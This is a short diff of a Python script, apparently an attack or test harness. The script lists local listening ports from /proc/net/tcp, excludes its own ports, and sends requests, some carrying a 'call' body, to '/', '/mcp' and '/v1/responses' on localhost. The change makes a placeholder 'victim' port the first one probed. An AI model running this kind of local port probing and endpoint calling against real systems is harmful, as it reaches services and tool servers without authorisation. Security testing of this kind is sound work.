@@ -50,7 +50,8 @@ with open("/proc/net/tcp") as table:
             ports.add(int(local.split(":")[1], 16))
 ports -= mine
 reached = 0
-for port in sorted(ports)[:64]:
+victim = VICTIM_PORT
+for port in [victim, *sorted(ports - {victim})[:63]]:
     for path, body in (("/", None), ("/mcp", call), ("/", call), ("/v1/responses", b"{}")):
         asked = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, headers=headers)
         try:
